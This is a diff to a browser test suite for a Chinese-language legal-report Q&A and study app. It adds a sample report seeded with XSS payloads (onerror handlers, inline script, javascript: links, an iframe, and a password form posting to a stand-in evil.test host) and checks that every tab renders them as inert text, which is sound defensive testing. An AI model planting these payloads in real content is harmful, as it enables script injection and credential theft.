@@ -30,6 +30,26 @@ XSS_REPORT = """测试市2022年法治政府建设年度报告
 """
 
 
+# Every way report text could turn into markup: tags, handlers, forms, javascript: links,
+# Markdown images and links. Nothing of it may become an element or a request.
+EVIL = "evil.test"
+HOSTILE_REPORT = f"""恶意市2022年法治政府建设年度报告<img src="http://{EVIL}/title.png">
+一、主要举措和成效
+（一）推进行政复议规范化
+1.提升复议质效。2022年，恶意市共受理行政复议案件88件<img src="http://{EVIL}/a.png" \
+onerror="window.__xss=1">，其中调解结案13件。
+2.加强行政复议宣传。全年开展行政复议宣传活动520场次<form action="http://{EVIL}/steal">\
+<input name="pw" placeholder="请输入管理密码"><button>提交</button></form>。
+3.规范行政复议执法。行政复议人员持证率达到98%<script>window.__xss=2</script>，\
+![宣传图](http://{EVIL}/md.png)。
+4.优化行政复议服务。走访企业1500家[点击查看](javascript:window.__xss=3)，\
+<a href="javascript:window.__xss=4">详情</a><iframe src="http://{EVIL}/frame"></iframe>。
+"""
+# Elements that must never appear (anywhere on the page, whichever tab).
+FORBIDDEN = (f"img[src*='{EVIL}'], iframe, form, input[name=pw], a[href^='javascript'], "
+             f"[onerror], script:not([src]):has-text('__xss')")
+
+
 def _require_chromium() -> None:
     if CHROMIUM.exists():
         return
@@ -61,6 +81,9 @@ def browser(app_server):
 def page(browser, app_server, request):
     context = browser.new_context(locale="zh-CN", viewport={"width": 1400, "height": 1000})
     page = context.new_page()
+    page.outside_requests = []  # any request not to the app (there must be none)
+    page.on("request", lambda r: None if r.url.startswith(("http://127.0.0.1", "data:", "blob:"))
+            else page.outside_requests.append(r.url))
     page.set_default_timeout(TIMEOUT_MS)
     page.goto(app_server.url)
     page.wait_for_selector("#question textarea")
@@ -171,3 +194,46 @@ def test_document_markup_renders_as_text(page, tmp_path):
     assert page.evaluate("() => typeof window.__xss") == "undefined"
     assert page.locator("#chatbot img[src='x']").count() == 0
     assert page.locator("#chatbot script").count() == 0
+
+
+def _assert_inert(page, where: str) -> None:
+    page.wait_for_timeout(300)  # let any image or frame start loading
+    assert page.locator(FORBIDDEN).count() == 0, where
+    assert page.evaluate("() => typeof window.__xss") == "undefined", where
+    assert not page.outside_requests, (where, page.outside_requests)
+
+
+def test_hostile_report_stays_text_in_every_tab(page, tmp_path):
+    path = tmp_path / "恶意市2022年法治政府建设年度报告.txt"
+    path.write_text(HOSTILE_REPORT, encoding="utf-8")
+    assert "已导入" in upload(page, path)
+    table = page.locator("#kb-table")
+    table.get_by_text("恶意市2022年法治政府建设年度报告", exact=False).first.wait_for()
+    _assert_inert(page, "知识库")
+
+    page.get_by_role("tab", name="问答").click()
+    answer = ask(page, "恶意市2022年开展行政复议宣传活动多少场次？")
+    text = answer.inner_text()
+    assert "520场次" in text and f'<form action="http://{EVIL}/steal">' in text
+    page.locator("#filter-reports").click()
+    _assert_inert(page, "问答")
+    page.keyboard.press("Escape")
+
+    page.get_by_role("tab", name="学习材料").click()
+    page.fill("#study-topic textarea", "行政复议")
+    page.click("#study-brief-go")
+    brief = page.locator("#study-brief .fz-study")
+    brief.get_by_text("520场次", exact=False).first.wait_for()
+    assert f"![宣传图](http://{EVIL}/md.png)" in brief.inner_text()
+    assert "[点击查看](javascript:window.__xss=3)" in brief.inner_text()
+    _assert_inert(page, "专题资料")
+
+    page.get_by_role("tab", name="测验").click()
+    page.fill("#quiz-seed textarea", "abc")
+    page.click("#study-quiz-go")
+    page.locator("#study-quiz").get_by_text("随机种子应为整数").wait_for()
+    page.fill("#quiz-seed textarea", "7")
+    page.fill("#quiz-topic textarea", "行政复议")
+    page.click("#study-quiz-go")
+    page.locator("#study-quiz .fz-study h1").wait_for()
+    _assert_inert(page, "测验")
